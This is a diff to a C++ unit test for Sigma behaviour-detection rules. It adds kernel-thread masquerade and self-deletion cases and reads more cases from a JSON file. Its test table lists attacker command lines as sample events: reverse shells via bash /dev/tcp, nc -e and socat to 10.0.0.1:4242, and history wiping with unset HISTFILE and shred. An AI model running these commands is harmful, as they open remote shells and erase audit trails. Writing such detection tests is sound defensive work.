@@ -6,6 +6,8 @@
 #include <map>
 #include <set>
 #include <sstream>
+#include <tuple>
+#include <vector>
 
 #include "event_synth.h"
 #include "sigma/rule_set.h"
@@ -102,6 +104,7 @@ const Case kCases[] = {
     {MEMFD, R"json({"category":"process_creation","Image":"/usr/bin/memfd-tool","CommandLine":"x"})json", false},
     {KTHREAD, R"json({"category":"process_creation","Image":"/tmp/.x","CommandLine":"[kworker/0:1]"})json", true},
     {KTHREAD, R"json({"category":"process_creation","Image":"/usr/bin/echo","CommandLine":"echo [kworker/0:1]"})json", false},
+    {KTHREAD, R"json({"category":"process_creation","Image":"/usr/bin/sleep","CommandLine":"[kworker/0:1] 30"})json", true},
     {HISTORY, R"json({"category":"process_creation","Image":"/bin/bash","CommandLine":"bash -c 'unset HISTFILE; id'"})json", true},
     {HISTORY, R"json({"category":"process_creation","Image":"/usr/bin/shred","CommandLine":"shred -u /root/.bash_history"})json", true},
     {HISTORY, R"json({"category":"process_creation","Image":"/usr/bin/less","CommandLine":"less /root/.bash_history"})json", false},
@@ -113,6 +116,7 @@ const Case kCases[] = {
     {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/tmp/dropper","Image":"/tmp/dropper","Operation":"delete"})json", true},
     {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/tmp/other","Image":"/tmp/dropper","Operation":"delete"})json", false},
     {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/tmp/dropper","Image":"/tmp/dropper","Operation":"write-open"})json", false},
+    {SELF_DELETE, R"json({"category":"file_event","TargetFilename":"/sample/x.sh","Image":"/usr/bin/rm","Operation":"delete","SelfDelete":"true"})json", true},
     {REVSHELL, R"json({"category":"process_creation","Image":"/bin/bash","CommandLine":"bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'"})json", true},
     {REVSHELL, R"json({"category":"process_creation","Image":"/usr/bin/nc","CommandLine":"nc 10.0.0.1 4242 -e /bin/sh"})json", true},
     {REVSHELL, R"json({"category":"process_creation","Image":"/usr/bin/socat","CommandLine":"socat tcp:10.0.0.1:4242 exec:/bin/sh,pty"})json", true},
@@ -161,16 +165,35 @@ TEST_F(BehaviorRules, AllLoadSupportedAndTagged) {
   }
 }
 
+// The cases of the rules added for issue 17, by rule file name (tests/sigma/behavior_cases.json:
+// [{"rule": "<file stem>", "match": true|false, "event": {...}}]), as (rule id, event, should_match).
+std::vector<std::tuple<std::string, nlohmann::json, bool>> FileCases(const RuleSet& rules) {
+  std::map<std::string, std::string> id_by_stem;
+  for (const auto& rule : rules.rules()) {
+    std::string stem = rule->origin.substr(rule->origin.find_last_of('/') + 1);
+    id_by_stem[stem.substr(0, stem.rfind('.'))] = rule->id;
+  }
+  std::ifstream in(AIRLOCK_SOURCE_DIR "/tests/sigma/behavior_cases.json");
+  std::vector<std::tuple<std::string, nlohmann::json, bool>> out;
+  for (const auto& c : nlohmann::json::parse(in)) {
+    auto it = id_by_stem.find(c["rule"].get<std::string>());
+    EXPECT_NE(it, id_by_stem.end()) << "behavior_cases.json names a rule file that is not loaded: " << c["rule"];
+    if (it != id_by_stem.end()) out.emplace_back(it->second, c["event"], c["match"].get<bool>());
+  }
+  return out;
+}
+
 TEST_F(BehaviorRules, TableCases) {
   std::map<std::string, std::pair<int, int>> per_rule;  // id -> (positives, negatives)
-  for (const auto& c : kCases) {
-    nlohmann::json ev = nlohmann::json::parse(c.event);
+  std::vector<std::tuple<std::string, nlohmann::json, bool>> cases = FileCases(*rules_);
+  for (const auto& c : kCases) cases.emplace_back(c.rule_id, nlohmann::json::parse(c.event), c.should_match);
+  for (const auto& [rule_id, ev, should_match] : cases) {
     bool fired = false;
     for (const auto& m : rules_->Match(ev))
-      if (m.rule->id == c.rule_id) fired = true;
-    EXPECT_EQ(fired, c.should_match) << c.rule_id << " on " << c.event;
-    auto& counts = per_rule[c.rule_id];
-    (c.should_match ? counts.first : counts.second)++;
+      if (m.rule->id == rule_id) fired = true;
+    EXPECT_EQ(fired, should_match) << rule_id << " on " << ev.dump();
+    auto& counts = per_rule[rule_id];
+    (should_match ? counts.first : counts.second)++;
   }
   for (const auto& rule : rules_->rules()) {
     auto it = per_rule.find(rule->id);
@@ -182,8 +205,9 @@ TEST_F(BehaviorRules, TableCases) {
 }
 
 TEST_F(BehaviorRules, SynthesiserAlsoCoversThem) {
-  // Same generator as the SigmaHQ corpus; fieldref is not synthesised (covered by the table).
-  const std::set<std::string> kNotSynthesised = {SELF_DELETE};
+  // Same generator as the SigmaHQ corpus; fieldref is not synthesised (the self-deletion rule is
+  // covered through its SelfDelete selection, its fieldref one by the table).
+  const std::set<std::string> kNotSynthesised = {};
   for (const auto& rule : rules_->rules()) {
     std::ifstream in(rule->origin);
     std::stringstream ss;
